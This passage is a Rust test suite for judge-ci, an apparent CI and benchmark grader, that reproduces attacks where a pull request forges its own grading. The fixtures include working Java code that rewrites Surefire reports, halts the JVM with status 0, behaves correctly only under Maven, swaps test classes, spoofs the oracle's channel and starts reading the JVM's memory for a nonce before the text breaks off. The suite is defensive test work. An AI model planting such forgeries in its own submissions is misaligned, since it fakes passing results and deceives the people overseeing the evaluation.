//! Build and test evidence the subject's own processes cannot forge (`spec/trust.md` points
//! 11, 12, 17 and 18; issue 24): each attack of the issue is a test here, with real `mvn -o`
//! builds where the attack needs one.

use crate::common;

use std::path::Path;

/// A config whose only tier accepts when `src/A.java` exists, with `fail-on` as given.
fn accepting_config(fail_on: &str) -> String {
    format!(
        "schema: judge-ci.v1\nname: t\nversion: \"1\"\njury:\n  tiers:\n    - name: files\n      policy: FINAL_TIER\n      checks:\n        - {{type: file-exists, path: src/A.java}}\nreport:\n  fail-on: {fail_on}\n"
    )
}

/// A git repository whose hidden-tests patch no longer applies: the pull request edited the
/// file the patch changes.
fn workspace_with_stale_patch(root: &Path, fail_on: &str) -> std::path::PathBuf {
    let ws = root.join("ws");
    common::write_tree(
        &ws,
        &[
            ("judge-ci.yml", &accepting_config(fail_on)),
            ("src/A.java", "class A {}\n"),
            (
                "src/ATest.java",
                "class ATest { /* edited by the pull request */ }\n",
            ),
        ],
    );
    std::fs::write(
        root.join("hidden.patch"),
        "--- a/src/ATest.java\n+++ b/src/ATest.java\n@@ -1 +1 @@\n-class ATest {}\n+class ATest { void hidden() {} }\n",
    )
    .unwrap();
    common::git(&ws, &["init", "-q"]);
    common::git(&ws, &["add", "-A"]);
    common::git(&ws, &["commit", "-qm", "pr"]);
    std::fs::write(
        root.join("task.yml"),
        format!(
            "schema: bench.task.v1\nid: t\ninstruction: do it\npost:\n  - git apply {}\n",
            root.join("hidden.patch").display()
        ),
    )
    .unwrap();
    ws
}

#[test]
fn a_failed_task_command_is_an_error_of_the_run_and_fails_the_gate_under_fail_on_error() {
    let root = tempfile::tempdir().unwrap();
    let ws = workspace_with_stale_patch(root.path(), "error");
    let task = root.path().join("task.yml");
    let o = common::judge_ci(&ws, &["--task", task.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(3), "{}", common::stderr(&o));
    let report = common::report(&ws.join("judge-ci-out"));
    let errored = &report["outcome"]["erroredTiers"];
    assert_eq!(errored[0]["tier"], "task commands", "{report}");
    assert!(
        errored[0]["reason"]
            .as_str()
            .is_some_and(|r| r.contains("post `git apply") && r.contains("exited with")),
        "{errored}"
    );
    let md = std::fs::read_to_string(ws.join("judge-ci-out/report.md")).unwrap();
    assert!(!md.contains("judged anyway"), "{md}");
    assert!(md.contains("the task commands failed"), "{md}");
    // Under `fail-on: fail` too: a failed task command is an ERROR the subject can cause,
    // which `fail` does not waive (it waives only judge-ci's own instrument failing).
    let ws = workspace_with_stale_patch(&root.path().join("lenient"), "fail");
    let task = root.path().join("lenient/task.yml");
    let o = common::judge_ci(&ws, &["--task", task.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(3), "{}", common::stderr(&o));
    let report = common::report(&ws.join("judge-ci-out"));
    assert!(
        report["outcome"]["reason"]
            .as_str()
            .is_some_and(|r| r.contains("the task commands failed")),
        "{report}"
    );
}

#[test]
fn restore_makes_the_restored_globs_exactly_the_references_and_lists_what_it_removed() {
    let root = tempfile::tempdir().unwrap();
    let ws = root.path().join("ws");
    let config = "schema: judge-ci.v1\nname: t\nversion: \"1\"\nreference:\n  path: ../reference\nrestore: [\"src/test/**\"]\njury:\n  tiers:\n    - name: files\n      policy: FINAL_TIER\n      checks:\n        - {type: file-exists, path: src/test/java/t/AppTest.java}\n";
    let added = [
        "src/test/resources/META-INF/services/org.junit.platform.launcher.TestExecutionListener",
        "src/test/resources/junit-platform.properties",
        "src/test/java/t/Forger.java",
    ];
    let mut files = vec![
        ("judge-ci.yml", config),
        ("src/test/java/t/AppTest.java", "weakened"),
        ("src/main/java/t/App.java", "main"),
    ];
    files.extend(added.iter().map(|p| (*p, "added by the pull request")));
    common::write_tree(&ws, &files);
    common::write_tree(
        &root.path().join("reference"),
        &[("src/test/java/t/AppTest.java", "strict")],
    );
    let o = common::judge_ci(&ws, &[]);
    assert_eq!(o.status.code(), Some(0), "{}", common::stderr(&o));
    let report = common::report(&ws.join("judge-ci-out"));
    common::assert_report_schema(&report);
    let removed: Vec<&str> = report["trust"]["restoreRemoved"]
        .as_array()
        .expect("restoreRemoved listed")
        .iter()
        .filter_map(|v| v.as_str())
        .collect();
    let mut expected = added.to_vec();
    expected.sort();
    assert_eq!(removed, expected, "{report}");
    for p in added {
        assert!(!ws.join(p).exists(), "{p} removed");
    }
    assert!(ws.join("src/main/java/t/App.java").exists());
    let md = std::fs::read_to_string(ws.join("judge-ci-out/report.md")).unwrap();
    assert!(md.contains("Removed before judging"), "{md}");
}

/// A compiled annotation processor, as the pull request would commit it: a shutdown hook that
/// deletes the failures from Surefire's reports after Surefire wrote them, then halts the JVM
/// with status 0. Returns the class file's bytes.
fn forging_processor(dir: &Path) -> Vec<u8> {
    let src = dir.join("p/Forge.java");
    std::fs::create_dir_all(src.parent().unwrap()).unwrap();
    std::fs::write(
        &src,
        r#"package p;
import javax.annotation.processing.*;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.TypeElement;
import java.nio.file.*;
import java.util.Set;
@SupportedAnnotationTypes("*")
public class Forge extends AbstractProcessor {
  static boolean hooked;
  @Override public synchronized void init(ProcessingEnvironment env) {
    super.init(env);
    if (hooked) return;
    hooked = true;
    Runtime.getRuntime().addShutdownHook(new Thread(() -> {
      try (var s = Files.walk(Paths.get("target/surefire-reports"))) {
        for (Path p : (Iterable<Path>) s::iterator) {
          if (p.getFileName().toString().startsWith("TEST-")) {
            String x = Files.readString(p);
            x = x.replaceAll("(?s)<failure.*?</failure>", "").replaceAll("failures=\"\\d+\"", "failures=\"0\"");
            Files.writeString(p, x);
          }
        }
      } catch (Exception e) { }
      Runtime.getRuntime().halt(0);
    }));
  }
  @Override public SourceVersion getSupportedSourceVersion() { return SourceVersion.latestSupported(); }
  @Override public boolean process(Set<? extends TypeElement> a, RoundEnvironment r) { return false; }
}
"#,
    )
    .unwrap();
    let st = std::process::Command::new("javac")
        .args(["--release", "17", "-d"])
        .arg(dir)
        .arg(&src)
        .status()
        .expect("javac runs");
    assert!(st.success(), "javac compiles the processor");
    std::fs::read(dir.join("p/Forge.class")).unwrap()
}

const APP: &str =
    "package t;\npublic class App {\n  public static int add(int a, int b) { return a + b; }\n}\n";
const WRONG_APP: &str =
    "package t;\npublic class App {\n  public static int add(int a, int b) { return a - b; }\n}\n";
const APP_TEST: &str = "package t;\nimport org.junit.Test;\nimport static org.junit.Assert.assertEquals;\npublic class AppTest {\n  @Test public void adds() { assertEquals(3, App.add(1, 2)); }\n  @Test public void addsZero() { assertEquals(1, App.add(1, 0)); }\n}\n";

/// A reference and a pull request (with a wrong `App.add`) under `root`; the config builds
/// with `mvn -o test`, restores `src/test/**`, and takes `protected-action` and `fail-on`
/// as given.
fn build_task(root: &Path, protected_action: &str) -> std::path::PathBuf {
    common::require_maven();
    let (ws, reference) = (root.join("ws"), root.join("reference"));
    common::maven_project(&reference, APP, APP_TEST);
    common::maven_project(&ws, WRONG_APP, APP_TEST);
    let config = format!(
        "schema: judge-ci.v1\nname: t\nversion: \"1\"\nreference:\n  path: ../reference\nrestore: [\"src/test/**\"]\nprotected-action: {protected_action}\njury:\n  tiers:\n    - name: build\n      policy: FINAL_TIER\n      checks:\n        - type: maven-build\n          goals: [test]\n          timeout: PT3M\nreport:\n  fail-on: error\n"
    );
    std::fs::write(ws.join("judge-ci.yml"), config).unwrap();
    ws
}

#[test]
fn an_annotation_processor_under_resources_is_build_code_added_and_fails_under_protected_action_fail()
 {
    let root = tempfile::tempdir().unwrap();
    let ws = build_task(root.path(), "fail");
    let class = forging_processor(&root.path().join("classes"));
    std::fs::create_dir_all(ws.join("src/main/resources/p")).unwrap();
    std::fs::write(ws.join("src/main/resources/p/Forge.class"), class).unwrap();
    common::write_tree(
        &ws,
        &[(
            "src/main/resources/META-INF/services/javax.annotation.processing.Processor",
            "p.Forge\n",
        )],
    );
    let o = common::judge_ci(&ws, &[]);
    assert_eq!(o.status.code(), Some(1), "{}", common::stderr(&o));
    let report = common::report(&ws.join("judge-ci-out"));
    common::assert_report_schema(&report);
    let added: Vec<String> = report["trust"]["buildCodeAdded"]
        .as_array()
        .expect("buildCodeAdded listed")
        .iter()
        .map(|f| f["path"].as_str().unwrap_or("").to_string())
        .collect();
    assert!(
        added
            .iter()
            .any(|p| p.ends_with("javax.annotation.processing.Processor"))
            && added.iter().any(|p| p.ends_with("p/Forge.class")),
        "{added:?}"
    );
    let seat = report["verdict"]["individual"]
        .as_array()
        .unwrap()
        .iter()
        .find(|j| j["metadata"]["judge"] == "build-code-added" || j["name"] == "build-code-added")
        .cloned();
    let names: Vec<String> = report["tiers"][0]["judges"]
        .as_array()
        .unwrap()
        .iter()
        .map(|j| format!("{}={}", j["name"], j["status"]))
        .collect();
    assert!(
        names
            .iter()
            .any(|n| n.contains("build-code-added") && n.contains("fail")),
        "{names:?} {seat:?}"
    );
}

#[test]
fn a_made_up_dependency_spelled_through_a_property_is_the_pull_requests_fail() {
    // Attack 4: `${absent.group}` hid the artifact from a rule that compared POM text, so the
    // build became an environment ERROR and the lenient tier accepted. Resolution is judged
    // on the effective model before the build: only the pull request's POM needs the artifact.
    let root = tempfile::tempdir().unwrap();
    common::require_maven();
    let (ws, reference) = (root.path().join("ws"), root.path().join("reference"));
    common::maven_project(&reference, APP, APP_TEST);
    common::maven_project(&ws, APP, APP_TEST);
    let pom = common::POM
        .replace(
            "<properties>",
            "<properties>\n    <absent.group>org.example.absent</absent.group>",
        )
        .replace(
            "</dependencies>",
            "  <dependency><groupId>${absent.group}</groupId><artifactId>nowhere</artifactId><version>9.9</version></dependency>\n  </dependencies>",
        );
    std::fs::write(ws.join("pom.xml"), pom).unwrap();
    std::fs::write(
        ws.join("judge-ci.yml"),
        "schema: judge-ci.v1\nname: t\nversion: \"1\"\nreference:\n  path: ../reference\njury:\n  tiers:\n    - name: build\n      policy: REJECT_ON_ANY_FAIL\n      checks:\n        - {type: maven-build, goals: [compile], timeout: PT3M}\n    - name: lenient\n      policy: FINAL_TIER\n      checks:\n        - {type: file-exists, path: pom.xml}\nreport:\n  fail-on: fail\n",
    )
    .unwrap();
    let o = common::judge_ci(&ws, &[]);
    assert_eq!(o.status.code(), Some(1), "{}", common::stderr(&o));
    let report = common::report(&ws.join("judge-ci-out"));
    let j = &report["verdict"]["individualByName"]["maven-build"];
    assert_eq!(j["status"], "fail", "{j:#}");
    assert!(
        j["reasoning"].as_str().is_some_and(
            |r| r.contains("org.example.absent:nowhere:9.9") && r.contains("introduced")
        ),
        "{j:#}"
    );
    assert_eq!(report["interpretation"]["decidedBy"], "build");
}

/// The tier's judgments by name, `name=status`.
fn seats(report: &serde_json::Value) -> Vec<String> {
    report["verdict"]["individual"]
        .as_array()
        .unwrap()
        .iter()
        .map(|j| {
            format!(
                "{}={}",
                j["name"].as_str().unwrap_or("?"),
                j["status"].as_str().unwrap_or("?")
            )
        })
        .collect()
}

/// Runs judge-ci in `ws` and returns the exit code, the report and the maven-build judgment.
fn judge_build(ws: &Path) -> (Option<i32>, serde_json::Value, serde_json::Value) {
    let o = common::judge_ci(ws, &[]);
    let report = common::report(&ws.join("judge-ci-out"));
    let build = report["verdict"]["individualByName"]["maven-build"].clone();
    (o.status.code(), report, build)
}

#[test]
fn a_processor_whose_shutdown_hook_forges_surefire_and_halts_0_fails_on_what_judge_ci_observed() {
    // Attack 1 with protected-action: report (the build-code finding is only reported): Maven
    // exits 0 and Surefire's XML says every test passed, but judge-ci's own run of the
    // restored tests saw them fail.
    let root = tempfile::tempdir().unwrap();
    let ws = build_task(root.path(), "report");
    let class = forging_processor(&root.path().join("classes"));
    std::fs::create_dir_all(ws.join("src/main/resources/p")).unwrap();
    std::fs::write(ws.join("src/main/resources/p/Forge.class"), class).unwrap();
    common::write_tree(
        &ws,
        &[(
            "src/main/resources/META-INF/services/javax.annotation.processing.Processor",
            "p.Forge\n",
        )],
    );
    let (code, report, build) = judge_build(&ws);
    assert_eq!(code, Some(1), "{:?} {build:#}", seats(&report));
    assert_eq!(build["status"], "fail", "{build:#}");
    assert_eq!(
        build["metadata"]["exitCode"], 0,
        "the forgery worked on Maven: {build:#}"
    );
    let why = build["reasoning"].as_str().unwrap();
    assert!(
        why.contains("judge-ci's own run of the trusted tests"),
        "{why}"
    );
    let sets = &build["metadata"]["tests"];
    assert_eq!(
        sets["expected"].as_array().map(Vec::len),
        Some(2),
        "{sets:#}"
    );
    // The graded tests are in the report (its schema), the comment and JUnit.
    common::assert_report_schema(&report);
    assert_eq!(report["tests"]["baseRun"], false, "{report:#}");
    assert_eq!(report["tests"]["expected"][0]["name"], "t.AppTest#adds");
    assert_eq!(
        report["tests"]["expected"][0]["reference"]["outcome"],
        "passed"
    );
    assert_ne!(
        report["tests"]["expected"][0]["subject"]["outcome"],
        "passed"
    );
    let md = std::fs::read_to_string(ws.join("judge-ci-out/report.md")).unwrap();
    assert!(
        md.contains("Tests judge-ci ran itself: 1 of 2 charged test(s) not passing")
            && md.contains("| EXPECTED | `t.AppTest#adds`"),
        "{md}"
    );
    let junit = std::fs::read_to_string(ws.join("judge-ci-out/junit.xml")).unwrap();
    assert!(
        junit.contains(r#"<testsuite name="judge-ci.tests" tests="2" failures="1""#)
            && junit.contains(r#"<testcase classname="t.AppTest" name="adds">"#)
            && junit.contains(r#"<property name="set" value="EXPECTED"/>"#),
        "{junit}"
    );
    assert!(
        report["trust"]["buildCodeAdded"]
            .as_array()
            .is_some_and(|a| !a.is_empty()),
        "reported, not failed: {report:#}"
    );
    // Surefire's forged report disagrees with what judge-ci saw: a finding naming both.
    let findings = build["findings"].as_array().unwrap();
    assert!(
        findings.iter().any(|f| f["actual"]
            .as_str()
            .is_some_and(|a| a.contains("(Surefire's report)"))
            && f["expected"]
                .as_str()
                .is_some_and(|e| e.contains("observed by judge-ci"))),
        "{findings:#?}\nreports: {:?}",
        std::fs::read_dir(ws.join("target/surefire-reports")).map(|d| d
            .filter_map(Result::ok)
            .map(|e| (
                e.file_name(),
                std::fs::read_to_string(e.path()).unwrap_or_default()
            ))
            .collect::<Vec<_>>())
    );
}

#[test]
fn surefire_reports_a_test_writes_decide_nothing() {
    // Attack 2: a test of the pull request's own writes TEST-*.xml naming the restored tests
    // as passed. The restored tests are what judge-ci runs; the forged file is only a
    // cross-check, and it disagrees.
    let root = tempfile::tempdir().unwrap();
    let ws = build_task(root.path(), "report");
    let forger = r#"package t;
import org.junit.Test;
public class ZForgeTest {
  @Test public void forge() throws Exception {
    java.nio.file.Path d = java.nio.file.Paths.get("target/surefire-reports");
    java.nio.file.Files.createDirectories(d);
    java.nio.file.Files.writeString(d.resolve("TEST-t.AppTest.xml"),
      "<testsuite name=\"t.AppTest\" tests=\"2\" failures=\"0\"><testcase classname=\"t.AppTest\" name=\"adds\"/><testcase classname=\"t.AppTest\" name=\"addsZero\"/></testsuite>");
    Runtime.getRuntime().halt(0);
  }
}
"#;
    // restore: removes the test file (the reference has none such), so the pull request
    // puts the same forgery in main code too: App's static initialiser writes the report
    // and halts the JVM with 0 when the tests first use it.
    let app = r#"package t;
public class App {
  static {
    try {
      java.nio.file.Path d = java.nio.file.Paths.get("target/surefire-reports");
      java.nio.file.Files.createDirectories(d);
      java.nio.file.Files.writeString(d.resolve("TEST-t.AppTest.xml"),
        "<testsuite name=\"t.AppTest\" tests=\"2\" failures=\"0\"><testcase classname=\"t.AppTest\" name=\"adds\"/><testcase classname=\"t.AppTest\" name=\"addsZero\"/></testsuite>");
    } catch (Exception e) { }
    Runtime.getRuntime().halt(0);
  }
  public static int add(int a, int b) { return a - b; }
}
"#;
    common::write_tree(
        &ws,
        &[
            ("src/main/java/t/App.java", app),
            ("src/test/java/t/ZForgeTest.java", forger),
        ],
    );
    let (code, report, build) = judge_build(&ws);
    assert_eq!(code, Some(1), "{:?} {build:#}", seats(&report));
    assert_eq!(build["status"], "fail", "{build:#}");
    let removed = report["trust"]["restoreRemoved"].to_string();
    assert!(removed.contains("ZForgeTest.java"), "{removed}");
    assert_eq!(
        build["metadata"]["exitCode"], 0,
        "the forgery worked on Maven: {build:#}"
    );
    let not_passing: Vec<String> = build["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["kind"] == "test-failing" || f["kind"] == "test-missing")
        .map(|f| f["actual"].as_str().unwrap_or("").to_string())
        .collect();
    assert!(
        not_passing
            .iter()
            .any(|a| a.starts_with("t.AppTest#adds: ")),
        "{not_passing:#?}"
    );
}

#[test]
fn a_test_source_folder_pointed_at_an_empty_one_runs_no_test_and_fails() {
    // Attack 3: `<testSourceDirectory>` at an empty folder: Maven runs no test and exits 0 on
    // a wrong `App`. pom-diff sees the <build> change, build-code-added names it, and
    // judge-ci compiles and runs the trusted tests itself (it never needed Maven to compile
    // them), so it sees `adds` fail.
    let root = tempfile::tempdir().unwrap();
    let ws = build_task(root.path(), "report");
    let pom = common::POM.replace(
        "</project>",
        "  <build><testSourceDirectory>src/test/none</testSourceDirectory></build>\n</project>",
    );
    std::fs::write(ws.join("pom.xml"), pom).unwrap();
    let (code, report, build) = judge_build(&ws);
    assert_eq!(code, Some(1), "{:?} {build:#}", seats(&report));
    assert_eq!(
        build["metadata"]["exitCode"], 0,
        "Maven itself passed: {build:#}"
    );
    assert!(
        !ws.join("target/test-classes/t/AppTest.class").exists(),
        "Maven compiled no test"
    );
    let failing: Vec<&str> = build["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "test-failing")
        .filter_map(|f| f["actual"].as_str())
        .collect();
    assert!(
        failing
            .iter()
            .any(|a| a.starts_with("t.AppTest#adds: failed")),
        "{build:#}"
    );
    assert!(
        report["trust"]["buildCodeAdded"]
            .to_string()
            .contains("testSourceDirectory"),
        "{report:#}"
    );
}

#[test]
fn an_honest_change_passes_on_what_judge_ci_observed() {
    let root = tempfile::tempdir().unwrap();
    let ws = build_task(root.path(), "fail");
    std::fs::write(ws.join("src/main/java/t/App.java"), APP).unwrap();
    let (code, report, build) = judge_build(&ws);
    assert_eq!(code, Some(0), "{:?} {build:#}", seats(&report));
    assert_eq!(build["status"], "pass", "{build:#}");
    assert!(
        build["reasoning"]
            .as_str()
            .unwrap()
            .contains("judge-ci observed all 2 trusted test(s) pass"),
        "{build:#}"
    );
}

/// An `App` that adds correctly only inside Maven's JVMs (Maven's own, where the tests run
/// with `forkCount=0`, or Surefire's fork) and subtracts everywhere else; inside Maven it first runs `inside` (Java statements).
fn app_right_only_under_maven(inside: &str) -> String {
    format!(
        r#"package t;
public class App {{
  public static int add(int a, int b) {{
    String cmd = System.getProperty("sun.java.command", "");
    if (cmd.contains("surefire") || cmd.contains("plexus")) {{
      try {{ {inside} }} catch (Exception e) {{ }}
      return a + b;
    }}
    return a - b;
  }}
}}
"#
    )
}

#[test]
fn the_oracle_runs_the_trusted_tests_judge_ci_compiled_not_the_test_classes_the_build_wrote() {
    // Attack finding F1: the pull request's code, inside Maven's JVM, overwrote
    // target/test-classes/t/AppTest.class with a class whose tests assert nothing; the oracle
    // loaded target/test-classes and saw them pass. judge-ci now compiles the reference's test
    // sources itself (-proc:none) into a folder of its own and never reads target/test-classes.
    let root = tempfile::tempdir().unwrap();
    let ws = build_task(root.path(), "report");
    let forged = root.path().join("forged");
    let src = forged.join("t/AppTest.java");
    std::fs::create_dir_all(src.parent().unwrap()).unwrap();
    std::fs::write(
        &src,
        "package t;\nimport org.junit.Test;\npublic class AppTest {\n  @Test public void adds() {}\n  @Test public void addsZero() {}\n}\n",
    )
    .unwrap();
    let st = std::process::Command::new("javac")
        .args(["--release", "17", "-cp"])
        .arg("/usr/share/maven-repo/junit/junit/4.13.2/junit-4.13.2.jar")
        .arg("-d")
        .arg(&forged)
        .arg(&src)
        .status()
        .expect("javac runs");
    assert!(st.success());
    let bytes: Vec<String> = std::fs::read(forged.join("t/AppTest.class"))
        .unwrap()
        .iter()
        .map(|b| (*b as i8).to_string())
        .collect();
    let swap = format!(
        "java.nio.file.Files.write(java.nio.file.Paths.get(\"target/test-classes/t/AppTest.class\"), new byte[]{{{}}});",
        bytes.join(",")
    );
    std::fs::write(
        ws.join("src/main/java/t/App.java"),
        app_right_only_under_maven(&swap),
    )
    .unwrap();
    let (code, report, build) = judge_build(&ws);
    assert_eq!(
        build["metadata"]["exitCode"], 0,
        "Maven's own tests passed: {build:#}"
    );
    assert_eq!(code, Some(1), "{:?} {build:#}", seats(&report));
    assert_eq!(build["status"], "fail", "{build:#}");
    assert!(
        report["tests"]["expected"][0]["subject"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("AssertionError")),
        "the restored assertions ran: {:#}",
        report["tests"]
    );
}

#[test]
fn test_invariance_decides_on_judge_ci_s_own_run_not_on_surefire_s_reports() {
    // Attack finding F4 (and routed F5, F28): test-invariance read the Surefire XML the
    // build's processes wrote. A `command` build whose tests pass only inside Maven's JVM:
    // Surefire says passed, judge-ci's own run of the trusted tests says failed.
    let root = tempfile::tempdir().unwrap();
    let ws = build_task(root.path(), "report");
    std::fs::write(
        ws.join("src/main/java/t/App.java"),
        app_right_only_under_maven(""),
    )
    .unwrap();
    let config = "schema: judge-ci.v1\nname: t\nversion: \"1\"\nreference:\n  path: ../reference\nrestore: [\"src/test/**\"]\njury:\n  tiers:\n    - name: build\n      policy: FINAL_TIER\n      checks:\n        - type: command\n          name: build\n          run: \"./mvnw -o -q -B test\"\n          timeout: PT3M\n        - type: test-invariance\n          timeout: PT3M\nreport:\n  fail-on: error\n";
    std::fs::write(ws.join("judge-ci.yml"), config).unwrap();
    let o = common::judge_ci(&ws, &[]);
    let report = common::report(&ws.join("judge-ci-out"));
    let ti = report["verdict"]["individualByName"]["test-invariance"].clone();
    assert_eq!(ti["status"], "fail", "{ti:#}");
    assert!(
        ti["reasoning"]
            .as_str()
            .is_some_and(|r| r.contains("judge-ci's own run of the trusted tests")),
        "{ti:#}"
    );
    assert!(
        ti["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["actual"]
                .as_str()
                .is_some_and(|a| a.contains("passed (Surefire's report)"))),
        "Surefire's report said passed: {ti:#}"
    );
    assert_ne!(o.status.code(), Some(0), "{:?}", seats(&report));
    // A pull request that deletes every test: the trusted ones still run, and fail.
    let ws2 = build_task(&root.path().join("deleted"), "report");
    std::fs::write(
        ws2.join("judge-ci.yml"),
        config.replace("restore: [\"src/test/**\"]\n", ""),
    )
    .unwrap();
    std::fs::remove_dir_all(ws2.join("src/test")).unwrap();
    let _ = common::judge_ci(&ws2, &[]);
    let report = common::report(&ws2.join("judge-ci-out"));
    let ti = &report["verdict"]["individualByName"]["test-invariance"];
    assert_eq!(ti["status"], "fail", "{ti:#}");
}

#[test]
fn a_test_that_hangs_only_under_judge_ci_s_oracle_is_the_pull_request_s_fail() {
    // Attack finding F3: the subject's code sleeps forever when it runs in judge-ci's oracle
    // (not in Maven): the build tier was an environment ERROR that `fail-on: fail` accepted.
    // The reference's run finished within the same limit, so the tests that did not finish
    // did not pass: a FAIL, with the time limit named.
    let root = tempfile::tempdir().unwrap();
    let ws = build_task(root.path(), "report");
    let app = r#"package t;
public class App {
  public static int add(int a, int b) {
    if (System.getProperty("sun.java.command", "").contains("JudgeCiOracle")) {
      try { Thread.sleep(100000000L); } catch (InterruptedException e) { }
    }
    return a + b;
  }
}
"#;
    std::fs::write(ws.join("src/main/java/t/App.java"), app).unwrap();
    let config = std::fs::read_to_string(ws.join("judge-ci.yml"))
        .unwrap()
        .replace("timeout: PT3M", "timeout: PT2M")
        .replace("fail-on: error", "fail-on: fail");
    std::fs::write(ws.join("judge-ci.yml"), config).unwrap();
    let (code, report, build) = judge_build(&ws);
    assert_eq!(build["status"], "fail", "{build:#}");
    assert!(
        build["reasoning"]
            .as_str()
            .is_some_and(|r| r.contains("did not finish within 2m")),
        "{build:#}"
    );
    assert_eq!(code, Some(1), "{:?}", seats(&report));
}

#[test]
fn with_a_base_the_trusted_tests_split_into_fail_to_pass_and_pass_to_pass() {
    // SWE-bench's grading: the trusted tests run on the base too. `adds` passes on the base
    // (PASS_TO_PASS) and the pull request breaks it: a finding naming the set; `multiplies`
    // fails on the base (FAIL_TO_PASS) and the pull request makes it pass.
    common::require_maven();
    let root = tempfile::tempdir().unwrap();
    let (ws, reference, base) = (
        root.path().join("ws"),
        root.path().join("reference"),
        root.path().join("base"),
    );
    let app = |add: &str, mul: &str| {
        format!(
            "package t;\npublic class App {{\n  public static int add(int a, int b) {{ return {add}; }}\n  public static int mul(int a, int b) {{ return {mul}; }}\n}}\n"
        )
    };
    let test = "package t;\nimport org.junit.Test;\nimport static org.junit.Assert.assertEquals;\npublic class AppTest {\n  @Test public void adds() { assertEquals(3, App.add(1, 2)); }\n  @Test public void multiplies() { assertEquals(6, App.mul(2, 3)); }\n}\n";
    common::maven_project(&reference, &app("a + b", "a * b"), test);
    common::maven_project(
        &base,
        &app("a + b", "0"),
        "package t;\npublic class Old {}\n",
    );
    // Wrong only outside Maven's JVM: Maven exits 0, judge-ci's own run sees `adds` fail.
    common::maven_project(
        &ws,
        &app(
            "System.getProperty(\"sun.java.command\", \"\").contains(\"plexus\") ? a + b : a - b",
            "a * b",
        ),
        test,
    );
    let config = "schema: judge-ci.v1\nname: t\nversion: \"1\"\nreference:\n  path: ../reference\nbase:\n  path: ../base\nrestore: [\"src/test/**\"]\njury:\n  tiers:\n    - name: build\n      policy: FINAL_TIER\n      checks:\n        - type: maven-build\n          goals: [test]\n          timeout: PT3M\nreport:\n  fail-on: error\n";
    std::fs::write(ws.join("judge-ci.yml"), config).unwrap();
    let (code, report, build) = judge_build(&ws);
    assert_eq!(code, Some(1), "{:?} {build:#}", seats(&report));
    let tests = &report["tests"];
    common::assert_report_schema(&report);
    assert_eq!(tests["baseRun"], true, "{tests:#}");
    assert_eq!(
        tests["passToPass"][0]["name"], "t.AppTest#adds",
        "{tests:#}"
    );
    assert_eq!(tests["passToPass"][0]["base"]["outcome"], "passed");
    assert_eq!(tests["passToPass"][0]["subject"]["outcome"], "failed");
    assert_eq!(tests["failToPass"][0]["name"], "t.AppTest#multiplies");
    assert_eq!(tests["failToPass"][0]["base"]["outcome"], "failed");
    assert_eq!(tests["failToPass"][0]["subject"]["outcome"], "passed");
    assert!(
        build["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["expected"]
                .as_str()
                .is_some_and(|e| e.contains("PASS_TO_PASS") && e.contains("t.AppTest#adds"))),
        "{build:#}"
    );
    let md = std::fs::read_to_string(ws.join("judge-ci-out/report.md")).unwrap();
    assert!(
        md.contains("| PASS_TO_PASS | `t.AppTest#adds`")
            && md.contains("| FAIL_TO_PASS | `t.AppTest#multiplies`"),
        "{md}"
    );
    let junit = std::fs::read_to_string(ws.join("judge-ci-out/junit.xml")).unwrap();
    assert!(
        junit.contains(r#"<property name="set" value="PASS_TO_PASS"/>"#)
            && junit.contains(r#"<property name="set" value="FAIL_TO_PASS"/>"#),
        "{junit}"
    );
}

/// Judges the build task with code under test that, inside judge-ci's oracle, writes
/// `write` (Java statements on the stream `o`) on judge-ci's channel and still adds right:
/// the build FAILs saying `says`, and the run exits 1 under `fail_on`.
fn writing_on_the_channel_fails(write: &str, fail_on: &str, says: &str) {
    let root = tempfile::tempdir().unwrap();
    let ws = build_task(root.path(), "report");
    let app = format!(
        r#"package t;
public class App {{
  public static int add(int a, int b) {{
    if (System.getProperty("sun.java.command", "").contains("JudgeCiOracle")) {{
      try (java.io.FileOutputStream o = new java.io.FileOutputStream("/proc/self/fd/3")) {{
        {write}
      }} catch (Exception e) {{ }}
    }}
    return a + b;
  }}
}}
"#
    );
    std::fs::write(ws.join("src/main/java/t/App.java"), app).unwrap();
    let config = std::fs::read_to_string(ws.join("judge-ci.yml"))
        .unwrap()
        .replace("fail-on: error", &format!("fail-on: {fail_on}"));
    std::fs::write(ws.join("judge-ci.yml"), config).unwrap();
    let (code, report, build) = judge_build(&ws);
    assert_eq!(build["status"], "fail", "{build:#}");
    assert!(
        build["reasoning"]
            .as_str()
            .is_some_and(|r| r.contains(says)),
        "{build:#}"
    );
    assert_eq!(code, Some(1), "{:?}", seats(&report));
}

#[test]
fn code_under_test_that_floods_judge_ci_s_channel_is_the_pull_request_s_fail() {
    // Attack finding F5: inside the oracle's JVM the subject's code wrote megabytes to
    // judge-ci's descriptor: the build became an instrument ERROR that `fail-on: fail`
    // accepted. Only code in the tests' JVM writes there: a FAIL naming the flood.
    writing_on_the_channel_fails(
        "byte[] junk = new byte[64 * 1024]; java.util.Arrays.fill(junk, (byte) 'x'); for (int i = 0; i < 40; i++) o.write(junk);",
        "fail",
        "channel carried more than",
    );
}

#[test]
fn a_line_code_under_test_writes_on_judge_ci_s_channel_is_the_pull_request_s_fail() {
    // Attack finding A11-1: the oracle's listener wrote its nonce, then the line, in four
    // writes; code under test flooded the channel with `F <test> SUCCESSFUL` lines until one
    // landed right after a nonce, and a test that failed passed. The listener now writes
    // each line whole, so a line without the nonce is the code under test's: here its tests
    // even pass, and the line alone fails the build.
    writing_on_the_channel_fails(
        r#"o.write(" F t.AppTest#adds SUCCESSFUL \n".getBytes());"#,
        "error",
        "did not come from its test oracle",
    );
}

/// Code under test that reads the oracle's nonce back from its own JVM (attack finding F2):
/// inside judge-ci's oracle it collects every 32-hex-digit token from the JVM's writable
/// memory (`/proc/self/maps` + `/proc/self/mem`) and from a heap dump
/// (`HotSpotDiagnosticMXBean.dumpHeap`), writes "passed" for both tests and `DONE` behind
/// each token on descriptor 3, and halts. It adds right inside Maven's JVM (so Maven exits
/// 0) and subtracts everywhere else.
const NONCE_THIEF: &str = r#"package t;
import java.io.*;
import java.nio.charset.StandardCharsets;
import java.util.*;
import java.util.regex.*;
public class App {
  static final Pattern HEX = Pattern.compile("[0-9a-f]{32}");
